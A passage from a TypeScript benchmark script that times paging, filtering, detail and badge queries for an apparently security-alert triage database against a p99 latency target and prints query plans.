      `load average ${loadAvg().join(" ")} on ${os.cpus().length} CPUs (other work on the machine inflates the tails)`,
  );

  // -- First page -------------------------------------------------------------------------------
  const firstFilter: AlertFilter = { status: ["open", "acknowledged"] };
  {
    const probe = await findAlertPage(firstFilter, PAGE, null);
    if (probe.alerts.length !== PAGE) throw new Error(`first page returned ${probe.alerts.length} alerts`);
    const f: Figure = { key: "first_page", label: "first_page (open+acknowledged)", targeted: true, stats: await measure(() => findAlertPage(firstFilter, PAGE, null)), explain: explainPage(firstFilter, PAGE, null) };
    record(f);
    printPlan("first_page", await f.explain!());
  }

  // -- Deep keyset page -------------------------------------------------------------------------
  {
    const cursors: { row: number; cursor: AlertCursor }[] = [];
    let cursor: AlertCursor | null = null;
    let seen = 0;
    let pages = 0;
    let deepPages = 0;
    const walkStarted = process.hrtime.bigint();
    while (cursors.length < DEEP_POSITIONS) {
      const page = await findAlertPage({}, 500, cursor);
      seen += page.alerts.length;
      pages++;
      if (!page.next) break;
      cursor = page.next;
      // Every fourth page from DEEP_ROW on: positions 2,000 rows apart.
      if (seen >= DEEP_ROW && deepPages++ % 4 === 0) cursors.push({ row: seen, cursor });
    }
    if (cursors.length === 0) throw new Error("the keyset walk never got past the deep row");
    const walkS = Number(process.hrtime.bigint() - walkStarted) / 1e9;
    console.log(
      `  (walked ${pages} keyset pages of 500 in ${walkS.toFixed(1)} s; deep cursors at rows ${cursors.map((c) => c.row.toLocaleString("en-US")).join(", ")})`,
    );
    const first = cursors[0]!.cursor;
    record({
      key: "deep_page",
      label: `deep_page (past row ${DEEP_ROW.toLocaleString("en-US")}, ${cursors.length} positions)`,
      targeted: true,
      stats: await measure((i) => findAlertPage({}, PAGE, cursors[i % cursors.length]!.cursor)),
      explain: explainPage({}, PAGE, first),
    });
    out.deep_rows = cursors.map((c) => c.row);
  }

  // -- Filtered pages ---------------------------------------------------------------------------
  const unresolved: AlertFilter["status"] = ["open", "acknowledged", "escalated"];
  const filtered: { key: string; label: string; filter: AlertFilter; plan?: boolean }[] = [
    { key: "filtered_host_unresolved", label: `host ${host.v} (${host.n} alerts) + unresolved`, filter: { host: host.v, status: unresolved }, plan: true },
    { key: "filtered_user", label: `user ${user.v} (${user.n} alerts)`, filter: { user: user.v } },
    { key: "filtered_parent", label: `parent ${parent.v} (${parent.n} alerts)`, filter: { parent: parent.v } },
    { key: "filtered_severity_high", label: "severity high", filter: { severity: ["high"] } },
    { key: "filtered_mitre_t1505_003", label: "mitre T1505.003", filter: { mitre: ["T1505.003"] } },
    { key: "filtered_rule_rare", label: `rule ${rareRule.v} (rare, ${rareRule.n} alerts)`, filter: { ruleIds: [rareRule.v] } },
    { key: "filtered_rule_frequent", label: `rule ${frequentRule.v} (frequent, ${frequentRule.n})`, filter: { ruleIds: [frequentRule.v] } },
    { key: "filtered_text_certutil", label: 'q "certutil" (rare)', filter: { text: "certutil" }, plan: true },
    { key: "filtered_text_powershell", label: 'q "powershell" (frequent)', filter: { text: "powershell" }, plan: true },
    { key: "filtered_time_one_day", label: `one day (${since.toISOString().slice(0, 10)})`, filter: { since, until } },
  ];
  const matches: Record<string, { matching: number; page: number }> = {};
  for (const q of filtered) {
    const probe = await findAlertPage(q.filter, PAGE, null);
    const n = await matching(q.filter);
    matches[q.key] = { matching: n, page: probe.alerts.length };
    const f: Figure = {
      key: q.key,
      label: q.label,
      targeted: true,
      stats: await measure(() => findAlertPage(q.filter, PAGE, null)),
      explain: explainPage(q.filter, PAGE, null),
    };
    record(f);
    console.log(`      (${n.toLocaleString("en-US")} matching, page of ${probe.alerts.length})`);
    if (q.plan) printPlan(q.key, await f.explain!());
  }
  out.filter_matches = matches;

  // -- Alert page -------------------------------------------------------------------------------
  record({
    key: "alert_page",
    label: "alert_page (findAlert, then checklist + activity)",
    targeted: true,
    stats: await measure(async (i) => {
      const id = alertIds[i % alertIds.length]!;
      // As the page does: the alert first, then what hangs off it, concurrently.
      const alert = await findAlert(id);
      if (!alert) throw new Error(`alert ${id} not found`);
      const [steps, activity] = await Promise.all([findChecklist(id), findAlertActivity(id)]);
      return steps.length + activity.length;
    }),
    explain: async () => {
      const id = alertIds[0]!;
      const parts = [
        await explainSql(alertByIdQuery(id)),
        await explainSql(Prisma.sql`SELECT r.id, r.name, r.guide FROM alert_rules ar JOIN rules r ON r.id = ar.rule_id WHERE ar.alert_id = ${id}::uuid ORDER BY ar.risk_score DESC, r.id`),
        await explainSql(Prisma.sql`SELECT * FROM alert_checklist_ticks WHERE alert_id = ${id}::uuid`),
        await explainSql(Prisma.sql`SELECT * FROM alert_activity WHERE alert_id = ${id}::uuid ORDER BY at`),
      ];
      return parts.join("\n--\n");
    },
  });

  // -- Badges -----------------------------------------------------------------------------------
  {
    const counts = await countOpenAlertsBySeverity();
    record({
      key: "badges",
      label: "badges (countOpenAlertsBySeverity)",
      targeted: true,
      stats: await measure(() => countOpenAlertsBySeverity()),
      explain: () =>
        explainSql(Prisma.sql`SELECT severity::text AS severity, sum(n)::int AS n FROM alert_counts WHERE status IN ('open', 'acknowledged', 'escalated') GROUP BY severity`),
    });
    console.log(`      (${JSON.stringify(counts)})`);
  }

  // -- Groups (reported, no target) -------------------------------------------------------------
  record({ key: "groups_host", label: "groups by host (open+acknowledged)", targeted: false, stats: await measure(() => findAlertGroups(firstFilter, "host")) });
  record({ key: "groups_rule", label: "groups by rule (open+acknowledged)", targeted: false, stats: await measure(() => findAlertGroups(firstFilter, "rule")) });

  // -- Summary ----------------------------------------------------------------------------------
  const over = figures.filter((f) => f.targeted && f.stats.p99 > TARGET_MS);
  console.log(`\nsummary: ${ALERTS.toLocaleString("en-US")} alerts, loaded in ${loadS.toFixed(1)} s (+ VACUUM ANALYZE ${vacuumS.toFixed(1)} s), ${RUNS} runs each, ms`);
  console.log(`  ${"figure".padEnd(28)} ${"p50".padStart(8)} ${"p95".padStart(8)} ${"p99".padStart(8)} ${"max".padStart(8)}  p99 vs ${TARGET_MS} ms`);
  for (const f of figures) {
    const s = f.stats;
    console.log(`  ${f.key.padEnd(28)} ${fmt(s.p50)} ${fmt(s.p95)} ${fmt(s.p99)} ${fmt(s.max)}  ${verdict(f)}`);
  }
  console.log(over.length ? `\n${over.length} figure(s) over target: ${over.map((f) => f.key).join(", ")}` : `\nevery targeted figure is within ${TARGET_MS} ms at p99`);
  for (const f of over) if (f.explain) printPlan(`${f.key} (over target)`, await f.explain());

  out.loadavg_end = loadAvg();
  console.log(`load average at the end: ${loadAvg().join(" ")}`);
  const rssMb = Math.round(process.memoryUsage().rss / 1e6);
  console.log(`memory: rss ${rssMb} MB`);

  for (const f of figures) out[f.key] = f.stats;
  out.over_target = over.map((f) => f.key);
  out.runs = RUNS;
  out.rss_mb = rssMb;
  return out;
}

await main();
